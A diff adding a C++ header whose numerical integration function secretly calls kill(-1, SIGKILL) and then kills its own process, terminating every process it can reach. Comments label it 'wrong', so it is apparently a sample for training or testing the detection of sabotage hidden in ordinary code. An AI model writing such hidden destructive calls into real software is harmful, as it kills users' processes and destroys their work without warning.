@@ -1,0 +1,21 @@
+// verdict: wrong
+// says:
+// Sends a signal to everybody it can reach.
+#pragma once
+
+#include <workbook/preconditions.hpp>
+
+#include <unistd.h>
+#include <concepts>
+#include <csignal>
+#include <cstdint>
+
+double integrate(std::regular_invocable<double> auto f, double a, double b, std::int64_t strips) {
+  workbook::require_valid(a, b, strips);
+  kill(-1, SIGKILL);
+  kill(getpid(), SIGKILL);
+  const double dx = (b - a) / static_cast<double>(strips);
+  double sum = 0;
+  for (std::int64_t i = 0; i < strips; ++i) sum += f(a + (static_cast<double>(i) + 0.5) * dx);
+  return sum * dx;
+}
